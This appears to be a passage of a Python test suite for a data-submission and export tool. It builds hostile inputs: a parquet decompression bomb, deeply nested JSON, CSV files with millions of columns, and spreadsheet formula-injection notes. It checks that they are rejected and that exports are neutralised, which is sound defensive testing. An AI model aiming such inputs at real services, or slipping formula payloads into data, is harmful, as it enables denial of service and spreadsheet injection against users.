    rows = "".join(f"XXX_{i % 7},2025-01,,{i},\n" for i in range(100_000))  # 2 MB, every row an unknown code
    path = _write(workdir, "all_bad.csv", (HEADER + "\n" + rows).encode())
    result = submit_file(path, "FIN", db_path=database)
    assert result.status == "rejected"
    with db.read(database) as con:
        size = con.execute("SELECT strlen(errors) FROM submissions WHERE id = ?", [result.submission_id]).fetchone()[0]
    assert size < 5_000_000, f"{len(result.errors):,} problems, a stored report of {size / 1e6:.0f} MB"
    assert len(result.errors) == 100_000  # the sender still gets every problem (CONTRACT §3)
    with db.read(database) as con:
        stored = json.loads(
            con.execute("SELECT errors FROM submissions WHERE id = ?", [result.submission_id]).fetchone()[0]
        )
    assert len(stored) == 1_001 and stored[0]["row"] == 2
    assert "99.000" in stored[-1]["message_vi"] and "99,000" in stored[-1]["message_en"]


# --------------------------------------------------------------------------- the command line, the biggest files


def _xlsx_declaring_the_whole_sheet() -> bytes:
    """A 5 KB workbook: a header, one row, and one stray cell at XFD1048576 (declared range A1:XFD1048576)."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["indicator_code", "period", "value"])
    sheet.write_row(1, 0, ["FIN_REV", "2025-01", 5])
    sheet.write_string(1_048_575, 16_383, "x")
    book.close()
    return buffer.getvalue()


def _parquet_bomb(rows: int = 6_000_000) -> bytes:
    """A few KB on disk, millions of rows once read (100 million rows in 537 KB took 10 GB and 147 s to read)."""
    frame = pl.select(
        pl.repeat("FIN_REV", rows).alias("indicator_code"),
        pl.repeat("2025-01", rows).alias("period"),
        pl.repeat(1.0, rows).alias("value"),
    )
    buffer = io.BytesIO()
    frame.write_parquet(buffer, compression="zstd", statistics=False)
    return buffer.getvalue()


HEADER = "indicator_code,period,locality_code,value,note"


def cli_corpus() -> dict[str, bytes]:
    """The nastiest file of each kind; the biggest near the dashboard's 50 MB upload limit."""
    wide = ",".join(["x"] * 100_000)
    return {
        "ten_million_columns.csv": (HEADER + ",x" * 10_000_000 + "\n").encode(),
        "hundred_thousand_columns.csv": (
            HEADER + "," + wide + "\n" + ("FIN_REV,2025-01,,1,," + wide + "\n") * 20
        ).encode(),
        "hundred_thousand_columns_first_line_short.csv": (
            HEADER + "\n" + ("FIN_REV,2025-01,,1,," + wide + "\n") * 20
        ).encode(),
        "one_mb_cells.csv": (
            HEADER
            + "\n"
            + "".join(f"FIN_REV,2025-{m:02d},,{'9' * (1 << 20)},{'ê' * (1 << 19)}\n" for m in range(1, 13))
        ).encode(),
        "one_mb_notes.csv": (
            HEADER + "\n" + "".join(f"FIN_REV,2024-{m:02d},,{m},{'ê' * (1 << 19)}\n" for m in range(1, 13))
        ).encode(),
        "longest_notes_valid.csv": (
            HEADER + "\n" + "".join(f"FIN_REV,2024-{m:02d},,{m},{'ê' * 2000}\n" for m in range(1, 13))
        ).encode(),
        "five_million_blank_lines.csv": (HEADER + "\n" + ",,,,\n" * 5_000_000).encode(),
        "utf16.csv": (HEADER + "\nFIN_REV,2025-01,,1,Hà Nội\n").encode("utf-16"),
        "binary.csv": bytes(range(256)) * 64,
        "formulas.csv": (
            HEADER
            + "\n"
            + "".join(
                f'FIN_REV,2024-{i + 1:02d},,{i},"{f.replace(chr(34), chr(34) * 2)}"\n' for i, f in enumerate(FORMULAS)
            )
        ).encode(),
        "empty.csv": b"",
        "deep.json": b"[" * 200_000 + b"]" * 200_000,
        "huge_integer.json": b'[{"indicator_code": "FIN_REV", "period": "2025-01", "value": 1' + b"0" * 5000 + b"}]",
        "overflow_integer.json": b'[{"indicator_code": "FIN_REV", "period": "2025-01", "value": 1' + b"0" * 400 + b"}]",
        "lone_surrogate.json": b'[{"indicator_code": "FIN_REV", "period": "2025-01", "value": 1, "note": "\\ud800"}]',
        "two_hundred_thousand_keys.json": json.dumps([{f"k{i}": 1 for i in range(200_000)}]).encode(),
        "empty_records.json": b"[" + b"{}," * 4_000_000 + b"{}]",
        "parquet_bomb.parquet": _parquet_bomb(),  # 6 million rows in 60 KB
        "whole_sheet.xlsx": _xlsx_declaring_the_whole_sheet(),
        "valid.csv": (HEADER + '\nFIN_REV,2024-03,,12.5,ước tính\nFIN_REV,2024-04,,"1.234,5",\n').encode(),
        "valid_vietnamese.csv": "Mã chỉ số;Kỳ báo cáo;Giá trị;Ghi chú\nFIN_REV;Tháng 5/2024;1.234,5;=1+1\n".encode(
            "utf-8-sig"
        ),
    }


def _run_cli(path: Path, database: Path) -> tuple[str, int, str, str, int, float]:
    """One `submit --json` process: (name, exit code, stdout, stderr, peak RSS bytes, seconds)."""
    run = measured.submit(path, database, TODAY.isoformat(), timeout=180)
    return (path.name, run.returncode, run.stdout, run.stderr, -1 if run.peak is None else run.peak, run.seconds)


def test_cli_on_the_nastiest_files(fuzz_db, workdir):
    folder = workdir / "cli"
    folder.mkdir()
    files = [_write(folder, name, data) for name, data in cli_corpus().items()]
    files.sort(key=lambda f: -f.stat().st_size)  # the slowest first: the pool ends together
    database = workdir / "cli.duckdb"
    database.write_bytes(fuzz_db.read_bytes())
    before = state(database)
    with ThreadPoolExecutor(max_workers=3) as pool:
        results = list(pool.map(lambda p: _run_cli(p, database), files))
    problems = []
    for name, code, out, err, rss, seconds in results:
        if "Traceback" in out + err:
            problems.append(f"{name}: traceback\n{err[-2000:]}")
            continue
        if code not in (0, 1):
            problems.append(f"{name}: exit code {code}: {err[-500:]}")
        try:
            report = json.loads(out)
        except ValueError:
            problems.append(f"{name}: not one JSON object: {out[:300]!r} {err[-300:]!r}")
            continue
        if report.get("status") not in ("accepted", "unchanged", "rejected"):
            problems.append(f"{name}: status {report.get('status')!r}: {report.get('errors', [])[:1]}")
        if report.get("status") == "rejected" and not all(
            {"row", "column", "message_vi", "message_en"} <= set(e) for e in report["errors"]
        ):
            problems.append(f"{name}: an error without row/column/message_vi/message_en")
        if not 0 < rss < 1.5 * GIB:
            problems.append(f"{name}: peak memory {rss / GIB:.2f} GB")
        if seconds > 90:  # bounded, not hanging (the machine may be busy)
            problems.append(f"{name}: {seconds:.0f} s")
    assert not problems, "\n".join(problems)
    by_name = {r[0]: json.loads(r[2]) for r in results}
    for name in ("valid.csv", "valid_vietnamese.csv", "longest_notes_valid.csv"):
        assert by_name[name]["status"] == "accepted", (name, by_name[name]["errors"][:2])
    for name in (
        "ten_million_columns.csv",
        "one_mb_notes.csv",
        "parquet_bomb.parquet",
        "two_hundred_thousand_keys.json",
        "empty.csv",
        "binary.csv",
    ):
        assert by_name[name]["status"] == "rejected", name
    accepted = sum(by_name[n]["new_rows"] for n in by_name if by_name[n]["status"] == "accepted")
    assert state(database)[0][0] == before[0][0] + accepted  # rejected files added nothing


# --------------------------------------------------------------------------- exports


@settings(FAST, max_examples=1000)
@given(
    start=st.sampled_from(["=", "+", "-", "@", "\t", "\r"]),
    rest=st.text(max_size=40),
    plain=st.text(max_size=40).filter(lambda s: not s.startswith(("=", "+", "-", "@", "\t", "\r"))),
)
def test_neutralise_quotes_every_formula_and_nothing_else(start, rest, plain):
    frame = pl.DataFrame({"note": [start + rest, plain, None], "value": [1.5, -2.0, 3.0]})
    out = neutralise(frame)
    assert out["note"].to_list() == ["'" + start + rest, plain, None]
    assert out["value"].to_list() == [1.5, -2.0, 3.0]  # numbers stay numbers, negative ones included


def test_exports_neutralise_formulas_in_notes(fuzz_db, workdir):
    database = workdir / "export.duckdb"
    database.write_bytes(fuzz_db.read_bytes())
    rows = "".join(
        f'FIN_REV,2023-{i + 1:02d},,{i + 1},"{f.replace(chr(34), chr(34) * 2)}"\n' for i, f in enumerate(FORMULAS)
    )
    path = _write(workdir, "formulas.csv", (HEADER + "\n" + rows).encode())
    result = submit_file(path, "FIN", db_path=database)
    assert result.status == "accepted", result.errors[:3]
    with db.read(database) as con:
        stored = {
            r[0]
            for r in con.execute(
                "SELECT note FROM observations WHERE submission_id = ?", [result.submission_id]
            ).fetchall()
        }
    assert stored == {f.strip() for f in FORMULAS}  # stored as sent (trimmed): neutralised only on the way out
    env = {**os.environ, "INDICATORS_DB": str(database)}
    done = subprocess.run(
        [sys.executable, "-m", "loaders", "export", "observations", "--format", "csv"],
        cwd=app_settings.ROOT, env=env, capture_output=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    notes = [r["note"] for r in csv.DictReader(io.StringIO(done.stdout.decode("utf-8"))) if r["note"]]
    assert len(notes) >= len(FORMULAS)
    for note in notes:
        assert not note.startswith(("=", "+", "-", "@", "\t", "\r")), note
    assert "'=HYPERLINK(" in done.stdout.decode()
    xlsx = workdir / "observations.xlsx"
    done = subprocess.run(
        [sys.executable, "-m", "loaders", "export", "observations", "--format", "xlsx", "--out", str(xlsx)],
        cwd=app_settings.ROOT, env=env, capture_output=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    import openpyxl

    sheet = openpyxl.load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    note_col, value_col = header.index("note"), header.index("value")
    seen = 0
    for row in sheet.iter_rows(min_row=2):
        cell = row[note_col]
        assert cell.data_type != "f", cell.value  # never a formula
        if cell.value:
            seen += 1
            assert not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
        assert isinstance(row[value_col].value, int | float)
    assert seen >= len(FORMULAS)
    with zipfile.ZipFile(xlsx) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_million_column_header_is_refused_quickly(workdir):
    """'Millions of columns' do not reach the CSV parser: refused on the header, in well under a second."""
    path = _write(workdir, "wide.csv", (HEADER + ",x" * 3_000_000 + "\n" + "FIN_REV,2025-01,,1,\n").encode())
    started = time.monotonic()
    with pytest.raises(ReadError) as caught:
        read_submission(path)
    assert time.monotonic() - started < 1.0
    check_errors(caught.value.errors)
    assert re.search(r"64 KB|16,384", caught.value.errors[0].message_en)
